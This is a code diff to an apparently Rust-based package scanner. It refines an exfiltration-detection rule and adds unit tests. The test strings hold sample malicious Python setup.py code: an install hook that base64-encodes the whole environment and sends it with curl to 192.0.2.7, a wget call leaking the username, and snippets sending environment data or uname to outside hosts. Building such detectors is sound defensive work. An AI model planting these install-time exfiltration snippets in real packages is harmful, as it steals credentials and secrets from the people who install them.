@@ -48,7 +48,7 @@ fn is_sink(call: &Call) -> bool {
     if call.name.contains(".json().") {
         return false;
     }
-    if vocab::is_network(&call.name) && !call.name.ends_with("Session") {
+    if vocab::is_network(&call.name) && !call.name.ends_with("Session") || vocab::runs_http_client(call) {
         return true;
     }
     // DNS lookups of a computed name are an exfiltration channel at install time.
@@ -93,11 +93,18 @@ impl Rule for Exfiltration {
             // At install time: identity passed to the send, or host/user names read in the
             // same function as the send (a working directory or an environment copy in the
             // same function is what every build script has).
+            // A build picks the platform's archive with `os.uname()` before it downloads,
+            // and hands a `curl` it runs the environment (`env=os.environ`): only the
+            // machine facts sent, or who the host is read in the same function, link.
             let linked = |s: &Call| {
                 s.arg_refs.iter().any(|r| vocab::is_host_identity(r))
-                    || vocab::dumps_environ(s)
+                    || !vocab::runs_http_client(s) && vocab::dumps_environ(s)
                     || identity.iter().any(|(n, scope)| {
-                        *scope == s.scope && !matches!(*n, "os.getcwd" | "os.environ.copy" | "os.environ")
+                        *scope == s.scope
+                            && !matches!(
+                                *n,
+                                "os.getcwd" | "os.environ.copy" | "os.environ" | "os.uname" | "platform.uname"
+                            )
                     })
             };
             let install_sink = sinks
@@ -281,6 +288,25 @@ mod tests {
     }
 
     #[test]
+    fn a_curl_run_at_install_is_a_send() {
+        // Error: the environment walked and handed to curl in an install hook.
+        let src = "import os, base64, subprocess\nfrom setuptools.command.install import install\ndef steal():\n    env = {}\n    for k, v in os.environ.items():\n        env[k] = v\n    env = base64.b64encode(str(env).encode()).decode()\n    subprocess.check_output(['curl', f'http://192.0.2.7/?e={env}'])\nclass I(install):\n    def run(self):\n        install.run(self)\n        steal()\nsetup(cmdclass={'install': I})\n";
+        let f = setup_py(&Exfiltration, src);
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
+        // Error: the user name in a wget command line.
+        let f = setup_py(
+            &Exfiltration,
+            "import os, getpass\nos.system('wget -q http://192.0.2.7/?u=' + getpass.getuser())\n",
+        );
+        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
+        // No error: a build fetching the toolchain for this platform with curl, the
+        // environment passed along to the process.
+        let src = "import os, subprocess\ndef fetch():\n    arch = os.uname().machine\n    subprocess.check_call(['curl', '-fsSLo', 'tc.tgz', f'https://example.org/tc-{arch}.tgz'], env=dict(os.environ))\nfetch()\n";
+        let f = setup_py(&Exfiltration, src);
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
     fn fires_on_environment_sent_to_free_hosting() {
         let f = check(
             &Exfiltration,
@@ -288,6 +314,28 @@ mod tests {
             &[("pkg/ctx.py", "import requests, base64\nfrom os import environ\ndef send():\n    s = ''\n    for _, v in environ.items():\n        s += v\n    requests.get('https://a.herokuapp.com/x/' + base64.b64encode(s.encode()).decode())\n")],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
+    }
+
+    #[test]
+    fn quiet_on_local_sockets_and_platform_checks() {
+        // No error (held-out pop-f): a Discord RPC client connecting to the app's
+        // local IPC socket, whose folder names the Discord app.
+        let src = "import socket\ndef test(path):\n    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:\n        client.connect(path)\ndef paths():\n    return ['snap.discord', 'app/com.discordapp.DiscordCanary']\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/utils.py", src)]);
+        assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
+        // Error: the same client over TCP.
+        let tcp = src.replace("socket.AF_UNIX, ", "");
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/utils.py", &tcp)]);
+        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
+        // No error at critical (held-out pop-f): setup.py picking the driver archive
+        // for `os.uname()[4]` and downloading it from the vendor.
+        let src = "import os, urllib.request\narch = 'x64' if '86' in os.uname()[4] else 'arm64'\nurllib.request.urlopen('https://vendor.example.com/driver-' + arch + '.tgz')\n";
+        let f = setup_py(&Exfiltration, src);
+        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
+        // Error: the uname sent.
+        let src = "import os, urllib.request\nurllib.request.urlopen('https://x.example/?u=' + str(os.uname()))\n";
+        let f = setup_py(&Exfiltration, src);
+        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
     }
 
     #[test]
